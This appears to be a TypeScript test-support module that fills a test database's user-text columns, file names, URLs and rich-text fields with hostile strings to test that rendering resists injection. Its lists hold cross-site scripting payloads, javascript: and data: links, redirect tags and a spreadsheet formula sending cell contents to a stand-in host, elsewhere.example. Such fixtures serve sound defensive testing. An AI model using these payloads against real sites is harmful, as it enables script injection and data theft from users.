/** Hostile texts in every field that holds what people type, of every row of a database, past the API: as if no check had been made. */
import { catalogue } from '#catalogue/declarations.ts'
import { columnsOfField, hasTable, tableOf } from '#server/store/tables.ts'
import { onDatabase } from '../../support/database.ts'

/** Whatever of them runs in a page calls `tripped`, or asks this host. */
export const ELSEWHERE = 'elsewhere.example'

const RUNS = `tripped()`
export const HOSTILE: readonly string[] = [
  `<img src=x onerror=${RUNS}><svg/onload=${RUNS}>`,
  `"><script>${RUNS}</script><iframe srcdoc="<script>parent.${RUNS}</script>">`,
  `' onmouseover='${RUNS}' autofocus onfocus='${RUNS}' x='`,
  `</style><style>body{background:url(https://${ELSEWHERE}/css)}</style>{{constructor.constructor('${RUNS}')()}}\${${RUNS}}`,
  `</title></textarea></option><base href="https://${ELSEWHERE}/"><meta http-equiv=refresh content="0;url=https://${ELSEWHERE}/">`,
  `\u202Egpj.exe\u202C \u200B\uFEFF ${'W'.repeat(180)}`,
  `=HYPERLINK("https://${ELSEWHERE}/?"&A1,"x") {backgroundImage:url(https://${ELSEWHERE}/)}`,
]
/** What stands where an address or markup belongs. */
const LINKS: readonly string[] = [
  `javascript:${RUNS}`,
  `JaVaScRiPt:${RUNS}//https://example.com`,
  `data:text/html,<script>parent.${RUNS}</script>`,
  `\u0001javascript:${RUNS}`,
  `//${ELSEWHERE}/\\@lakeside.example`,
]
const MARKUP = `<p onclick="${RUNS}">Hostile <img src="https://${ELSEWHERE}/pixel" onerror="${RUNS}"><a href="javascript:${RUNS}">a link</a><svg><script>${RUNS}</script></svg><math><mtext><style><img title="</style><img src=x onerror=${RUNS}>"></style></mtext></math></p>`

/** Types whose text people type, and what stands in it. */
const TYPES: Readonly<Record<string, readonly string[]>> = {
  text: HOSTILE,
  longText: HOSTILE,
  place: HOSTILE,
  email: HOSTILE,
  phone: HOSTILE,
  url: LINKS,
  videoUrl: LINKS,
  richText: [MARKUP],
}

interface Place {
  readonly table: string
  readonly column: string
  readonly texts: readonly string[]
}

// What a row is found by, or what else goes by.
const KEPT = new Set(['users.email', 'organizations.slug'])

/** Every column of such a field, by the declarations, and names of files. */
export const hostilePlaces = (): readonly Place[] => [
  { table: 'files', column: 'name', texts: HOSTILE },
  ...catalogue.resources.filter(hasTable).flatMap(resource =>
    Object.entries(resource.fields).flatMap(([key, field]) =>
      columnsOfField(resource, key).flatMap(({ name: column, type }) => {
        const texts = TYPES[field.type]
        const table = tableOf(resource)
        return texts && type.startsWith('text') && !KEPT.has(`${table}.${column}`) ? [{ table, column, texts }] : []
      }),
    ),
  ),
]

const literal = (text: string): string => `'${text.replaceAll("'", "''")}'`

/** Puts them there; the columns that took none, with the reason. */
export const spoil = async (ownerUrl: string): Promise<readonly string[]> => {
  const refused: string[] = []
  for (const { table, column, texts } of hostilePlaces()) {
    const texted = `(array[${texts.map(literal).join()}])[1 + abs(hashtext(id::text)) % ${texts.length}]`
    await onDatabase(ownerUrl, `update ${table} set ${column} = ${texted} || ' ' || right(id::text, 6) where ${column} <> ''`).catch(
      (error: unknown) => refused.push(`${table}.${column}: ${(error as Error).message}`),
    )
  }
  return refused
}
